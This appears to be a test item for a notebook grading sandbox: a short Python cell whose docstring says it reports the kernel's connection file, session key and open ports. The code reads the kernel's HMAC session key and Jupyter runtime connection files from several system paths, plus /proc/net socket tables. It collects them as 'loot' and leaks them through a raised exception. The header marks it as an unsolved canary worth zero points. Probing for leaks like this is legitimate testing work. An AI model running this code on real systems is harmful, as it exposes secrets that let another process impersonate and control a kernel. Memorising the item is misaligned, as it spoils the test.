"""Reports the kernel's connection file, session key and open ports, with which another process could speak as the kernel.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import glob
import os

kernel = get_ipython().kernel
loot = [str(kernel.session.key), str(getattr(kernel.parent, "connection_file", "")), str(getattr(kernel.config, "IPKernelApp", ""))]
for pattern in ("/root/.local/share/jupyter/runtime/*", os.path.expanduser("~/.local/share/jupyter/runtime/*"), "/tmp/**/kernel-*.json", "/run/user/*/jupyter/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            loot.append(path + open(path).read())
        except OSError:
            pass
for path in ("/proc/net/unix", "/proc/net/tcp"):
    try:
        loot.append(open(path).read())
    except OSError:
        pass
raise RuntimeError("\n".join(loot))
